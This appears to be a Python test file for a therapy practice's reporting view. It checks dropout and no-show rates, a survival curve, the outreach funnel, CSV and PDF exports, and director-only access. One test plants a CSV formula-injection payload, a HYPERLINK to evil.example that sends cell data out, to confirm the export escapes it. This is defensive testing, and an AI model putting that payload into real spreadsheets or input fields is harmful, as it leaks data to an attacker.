"""The practice view: rates that match the rows, the survival curve, the
outreach funnel, the CSV, and nobody but directors and admins."""

import csv
import io
from datetime import date, datetime, timedelta, timezone

import time_machine

from stillhere.audit.models import AuditEvent
from stillhere.clients.models import Appointment, Episode
from stillhere.engagement.transitions import change_state
from stillhere.outreach.models import OutreachStep, Sequence
from stillhere.test import BaseTestCase

NOW = datetime(2026, 6, 1, 12, tzinfo=timezone.utc)


class PracticeViewTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        from stillhere.simulator.generate import simulate
        from stillhere.simulator.load import load_simulation

        sim = simulate(400, seed=3, as_of=date(2026, 6, 1), n_clinicians=4)
        cls.sim_practice, _ = load_simulation(sim, slug="riverside")  # into Riverside, Dora's practice

    def get(self, url="/practice/", member=None):
        self.login(member or self.dora)
        with time_machine.travel(NOW, tick=False):
            return self.client.get(url)

    def test_dropout_is_the_share_of_endings_without_goodbye_beside_the_benchmark(self):
        r = self.get("/practice/?from=2025-06-01&to=2026-06-01")
        report = r.context["r"]
        ended = Episode.objects.filter(practice=self.riverside, ended__gte=date(2025, 6, 1), ended__lte=date(2026, 6, 1))
        self.assertEqual(report.dropout.total, ended.count())
        self.assertEqual(report.dropout.events, ended.filter(end_reason="no_goodbye").count())
        self.assertEqual(sum(x.total for x in report.dropout_by_clinician), report.dropout.total)
        self.assertTrue(0.08 < report.dropout.rate < 0.4, report.dropout.rate)
        self.assertContains(r, "Swift &amp; Greenberg (2012)")
        self.assertContains(r, "Dropout by clinician")
        self.assertTrue(AuditEvent.objects.filter(verb="practice-report-viewed", actor=self.dora.user).exists())

    def test_no_shows_count_sessions_that_were_due(self):
        report = self.get().context["r"]
        due = Appointment.objects.filter(practice=self.riverside, start__gte=datetime(2025, 6, 1, tzinfo=timezone.utc),
                                         start__lt=NOW, status__in=["attended", "no_show", "late_cancel"])
        self.assertEqual((report.noshow.total, report.noshow.events),
                         (due.count(), due.filter(status="no_show").count()))
        self.assertTrue(0.03 < report.noshow.rate < 0.15)

    def test_the_survival_curve_falls_fastest_in_the_first_sessions(self):
        r = self.get("/practice/?from=2024-06-01&to=2026-06-01")
        s = r.context["r"].survival
        self.assertGreater(s.survival[0], 0.95)  # a few booked and never came at all
        self.assertTrue(all(a >= b for a, b in zip(s.survival, s.survival[1:])))
        early, later = 1 - s.survival[3], s.survival[3] - s.survival[6]
        self.assertGreater(early, later)
        self.assertContains(r, "Engagement by session number (Kaplan–Meier)")
        self.assertContains(r, '<path d="M')

    def test_the_funnel_credits_the_step_before_the_return(self):
        ep = self.ana.episodes.get()
        t0 = datetime(2026, 5, 4, 10, tzinfo=timezone.utc)
        seq = Sequence.objects.create(practice=self.riverside, client=self.ana, episode=ep, anchor=t0, started=t0)
        for i, (key, channel, status, day) in enumerate([("call", "call", "logged", 0), ("message", "email", "sent", 4),
                                                         ("letter", "letter", "skipped", 11)]):
            OutreachStep.objects.create(sequence=seq, practice=self.riverside, client=self.ana, episode=ep, position=i,
                                        key=key, template=key, channel=channel, status=status,
                                        due=t0 + timedelta(days=day), finished=t0 + timedelta(days=day, hours=1))
        change_state(ep, "re_engaged", "reply", at=t0 + timedelta(days=6), source="client")
        r = self.get().context["r"]
        self.assertEqual((r.sequences, r.came_back), (1, 1))
        rows = {(f.key, f.channel): (f.handed_off, f.came_back_after) for f in r.funnel}
        self.assertEqual(rows, {("call", "call"): (1, 0), ("message", "email"): (1, 1)})

    def test_the_csv_has_the_same_figures(self):
        page = self.get().context["r"]
        r = self.get("/practice/export.csv")
        self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
        rows = list(csv.DictReader(io.StringIO(r.content.decode())))
        practice = next(x for x in rows if x["section"] == "dropout" and x["group"] == "practice")
        self.assertEqual((int(practice["events"]), int(practice["total"])), (page.dropout.events, page.dropout.total))
        self.assertTrue(any(x["group"] == "benchmark" and x["rate"] == "0.1970" for x in rows))
        self.assertTrue(any(x["section"] == "survival" for x in rows))
        self.assertTrue(AuditEvent.objects.filter(verb="practice-report-exported").exists())

    def test_a_formula_in_a_clinicians_name_reaches_the_csv_as_text(self):
        from stillhere.accounts.models import Membership

        evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
        Membership.objects.filter(practice=self.riverside, role="clinician").update(display_name=evil)
        rows = list(csv.reader(io.StringIO(self.get("/practice/export.csv").content.decode())))
        labels = [row[2] for row in rows if row[1] == "clinician"]
        self.assertIn("'" + evil, labels)
        self.assertFalse([cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")])
    def test_the_pdf_report_has_the_period_on_the_cover_and_the_same_figures(self):
        from pypdf import PdfReader

        page = self.get("/practice/?from=2025-06-01&to=2026-06-01").context["r"]
        r = self.get("/practice/report.pdf?from=2025-06-01&to=2026-06-01")
        self.assertEqual(r["Content-Type"], "application/pdf")
        pdf = PdfReader(io.BytesIO(r.content))
        self.assertGreaterEqual(len(pdf.pages), 2)
        cover = pdf.pages[0].extract_text()
        self.assertIn("Practice report", cover)
        self.assertIn("Period: 1 June 2025 to 1 June 2026", cover)
        body = " ".join(" ".join(p.extract_text() for p in pdf.pages[1:]).split())
        self.assertIn(f"of the {page.dropout.total} episodes that ended", body)
        self.assertIn("Swift & Greenberg (2012)", body)
        for row in page.dropout_by_clinician:
            self.assertIn(row.label, body)
        self.assertIn("When in treatment clients leave", body)
        self.assertIn("Outreach and what brought people back", body)
        event = AuditEvent.objects.get(verb="practice-report-exported")
        self.assertEqual(event.data, {"period": "2025-06-01/2026-06-01", "format": "pdf"})
        self.assertEqual(self.get("/practice/report.pdf", member=self.alice).status_code, 404)

    def test_a_bad_period_is_explained(self):
        r = self.get("/practice/?from=last+year")
        self.assertContains(r, "“from” must be a date like 2026-01-31", status_code=400)
        self.assertEqual(self.get("/practice/export.csv?from=2026-05-01&to=2026-01-01").status_code, 400)

    def test_clinicians_consultants_and_other_practices_get_a_404(self):
        for member in (self.alice, self.cora, self.charlie):
            self.assertEqual(self.get(member=member).status_code, 404, member)
            self.assertEqual(self.get("/practice/export.csv", member=member).status_code, 404, member)
        self.assertEqual(self.get(member=self.adam).status_code, 200)
